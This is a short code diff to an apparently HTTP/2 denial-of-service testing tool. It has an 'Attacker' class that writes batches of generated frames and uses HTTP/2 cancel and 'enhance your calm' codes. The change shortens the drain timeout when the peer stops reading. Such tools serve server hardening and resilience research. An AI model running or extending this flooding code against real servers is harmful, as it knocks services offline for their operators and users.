@@ -26,6 +26,8 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = struct.pack(">I", 8)
 ENHANCE_YOUR_CALM = 11
 
+DEAF_S = 1.0
+"""What is not taken for so long from a peer that reads nothing is not taken any more."""
 Attack = Callable[[int], bytes]
 """Makes the i-th piece of what is sent."""
 
@@ -128,7 +130,7 @@ class Attacker:
                 self._writer.write(b"".join(attack(self._index + each) for each in range(50)))
                 self._index += 50
                 try:
-                    async with asyncio.timeout(1):
+                    async with asyncio.timeout(PATIENCE_S if self._listening else DEAF_S):
                         await self._writer.drain()
                         await asyncio.sleep(0)  # a socket that has room takes no turn of the loop
                 except TimeoutError:
